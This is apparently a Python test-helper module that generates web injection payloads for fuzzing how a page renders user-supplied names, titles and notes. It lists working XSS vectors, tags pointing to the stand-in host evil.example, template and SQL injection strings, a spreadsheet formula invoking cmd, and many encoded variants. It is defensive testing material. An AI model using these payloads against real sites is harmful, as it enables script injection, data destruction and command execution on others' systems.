"""Texts that would run `planted()`, or load something, in a careless page.

Those of `tests/data/injection` are for posts in every format; those made here are for whatever
stands in a page: names, titles, terms, notes, addresses.
"""

from __future__ import annotations

import json
from functools import cache
from itertools import product
from pathlib import Path
from urllib.parse import quote

DATA = Path(__file__).parents[1] / "data/injection/payloads.jsonl"

_RUNS = (
    "<script>planted()</script>",
    "<img src=x onerror=planted()>",
    "<svg onload=planted()>",
    "<math><mi xlink:href='javascript:planted()'>x</mi></math>",
    "<details open ontoggle=planted()>x</details>",
    "<iframe srcdoc='<script>parent.planted()</script>'></iframe>",
    "<input autofocus onfocus=planted()>",
    "<a href='javascript:planted()'>x</a>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<svg><style><img src=x onerror=planted()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=planted()&gt;'>",
)
# What ends the place in which a careless page may have put a text.
_ENDS = (
    "'>", '">', '"/>', "`>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>",
    "</option></select>", "</noscript>", "</template>", "</bdi></h1></main>", "</svg>", "*/", "?>",
)  # fmt: skip
_ATTRIBUTES = tuple(
    f"x{end} {event}=planted() {more}"
    for end, event, more in product(
        ("'", '"', "`", ""),
        ("onmouseover", "onfocus", "onclick", "onpointerenter", "onanimationstart"),
        ("x=", 'autofocus tabindex=1 x="', "style='animation:x 1s' x='"),
    )
)
_SCRIPTS = (
    "';planted()//", '";planted()//', "`;planted()//", "\\';planted()//", '\\";planted()//',
    "${planted()}", "</script><script>planted()</script>", "\u2028planted()", "\u2029planted()//",
    "*/planted()/*", "<!--<script>planted()//", "');planted();('", '"]}];planted();//',
    "__proto__", "constructor", "toString", "valueOf", "innerHTML", "javascript:planted()",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*191 }}", "{{planted()}}", "{% raw %}{{ 7*191 }}", "{%- for x in ().__class__ -%}",
    "${7*191}", "#{7*191}", "<%= 7*191 %>", "[[${7*191}]]", "{{constructor.constructor('planted()"
    "')()}}", "{{ ''.__class__.__mro__ }}", "{0}", "{}", "{", "}", "{x.__class__}", "{place!r:>9}",
    "%s", "%d", "%(x)s", "%", "%%", "%(", "{{ config }}", "{# x #}", "<% x %>", "{{'%c'%60}}",
    "$(planted())", "`planted()`", "|safe", "{{ x|safe }}", "<!--#exec cmd=x -->", "<?php x ?>",
)  # fmt: skip
_WRITTEN_OTHERWISE = tuple(
    text
    for run in _RUNS[:6]
    for text in (
        run.replace("<", "&lt;").replace(">", "&gt;"),
        run.replace("<", "&amp;lt;"),
        run.replace("<", "&#60"),
        run.replace("<", "&#x3c;"),
        run.replace("<", "\\u003c"),
        run.replace("<", "\\x3c"),
        run.replace("<", "＜").replace(">", "＞"),
        run.replace("<", "‹").replace(">", "›"),
        run.replace("<", "<\u200b"),
        run.replace("<", "<\u0338"),
        run.replace("<", "\ufeff<"),
        run.replace("<", "<\x01"),
        run.replace("<", "<\x0c"),
        run.replace("<", "\u202e<"),
        run.replace("<", "\u00c0\u00bc"),
        run.replace("<", "+ADw-").replace(">", "+AD4-"),
        quote(run),
        quote(quote(run)),
        run.upper(),
        run.replace("s", "\u017f"),
        run.replace("i", "\u0131"),
        run.replace("k", "\u212a"),
        "\x1b]0;" + run,
        "\r\n\r\n" + run,
    )
)
# Controls of direction that are never closed, marks that stack, letters that are none.
TURNING = (
    "\u202eevil", "\u202devil", "\u2067evil", "\u2066\u2067\u2068evil", "\u202b\u202aevil",
    "\u2069\u2069\u2069evil", "\u202c\u202cevil", "\u200fevil\u200e", "\u061cevil",
    "\u202e" * 40 + "evil", "abc\u202e<b>", "\u2067" * 130 + "evil",
)  # fmt: skip
_STRANGE = (
    "Z" + "\u0335\u0310\u033f" * 60, "\ufdd0", "\uffff", "\U0001ffff", "\x7f", "\x85", "\u2028",
    "\U000e0041\U000e007f", "\u0600" * 20, "\ufffd", "A" * 190, "\u3000", "\u00ad" * 30,
    "\U0001f469\u200d\U0001f467" * 20,
    "\u115f", "..", ".", "/", "//evil.example", "\\", "?key=x", "#x", "%2f", "%00", "~", " ",
    "../../login", "a/b", "a?b=c#d", ";x=1", "+", "&lt;", "&", "=", "-- ", "1' OR '1'='1",
    "x'; DROP TABLE posts;--", "=cmd|'/c calc'!A1", "CON", "null", "undefined", "NaN", "0", "-1",
)  # fmt: skip

# Each fits where a name does: at most 200 characters.
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_RUNS,
            *(f"{end}{run}" for end, run in product(_ENDS, _RUNS[:8])),
            *_ATTRIBUTES,
            *_SCRIPTS,
            *_TEMPLATES,
            *_WRITTEN_OTHERWISE,
            *TURNING,
            *_STRANGE,
        )
    )
)


@cache
def payloads_for_posts() -> tuple[dict[str, str], ...]:
    """Give the payloads that are posts, each a text with its format."""
    return tuple(json.loads(line) for line in DATA.read_text("utf-8").splitlines())
